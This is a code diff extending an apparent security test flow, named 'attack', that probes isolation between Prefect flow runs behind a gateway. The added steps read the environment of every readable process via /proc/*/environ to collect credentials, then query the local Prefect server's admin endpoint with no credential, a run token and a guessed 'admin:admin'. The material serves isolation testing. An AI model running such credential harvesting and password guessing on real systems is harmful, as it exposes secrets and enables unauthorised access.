@@ -7,6 +7,7 @@ bodies that reach past its own run, and starving the worker process. It logs one
 checks the books from the operator's side."""
 
 import base64
+import http.client
 import json
 import os
 import socket
@@ -109,7 +110,7 @@ def event(name, resource, related=(), payload=None, event_id=None):
 
 
 @flow
-def attack(victim: dict, gateway_port: int, isolated: bool = False) -> None:
+def attack(victim: dict, gateway_port: int, isolated: bool = False, server_port: int = 0) -> None:
     logger = get_run_logger()
     own = str(get_run_context().flow_run.id)
     other, other_task, deployment = victim["run"], victim["task_run"], victim["deployment"]
@@ -461,6 +462,34 @@ def attack(victim: dict, gateway_port: int, isolated: bool = False) -> None:
             results["bind_gateway_port"] = f"refused: {exc.errno}"
         finally:
             probe.close()
+
+    # 6. The worker's credential: the environment of every process it can read.
+    environments = {"os.environ": dict(os.environ)}
+    for proc in os.listdir("/proc"):
+        if proc.isdigit():
+            try:
+                with open(f"/proc/{proc}/environ", "rb") as file:
+                    environments[proc] = file.read().decode(errors="replace")
+            except OSError:
+                pass
+    results["environments"] = environments
+
+    # 7. The Prefect server directly, around the gateway: with no credential, with the
+    # run's token, and with a guess.
+    direct = {}
+    for name, headers in (
+        ("none", {}),
+        ("run_token", {"Authorization": f"Basic {base64.b64encode(TOKEN.encode()).decode()}"}),
+        ("guess", {"Authorization": f"Basic {base64.b64encode(b'admin:admin').decode()}"}),
+    ):
+        try:
+            conn = http.client.HTTPConnection("127.0.0.1", server_port, timeout=5)
+            conn.request("GET", "/api/admin/version", headers=headers)
+            direct[name] = conn.getresponse().status
+            conn.close()
+        except OSError as exc:
+            direct[name] = f"unreachable: {type(exc).__name__}"
+    results["server_directly"] = direct
 
     results["read_own_run"] = raw("GET", f"/api/flow_runs/{own}")
     logger.info("attack results: %s", json.dumps(results))
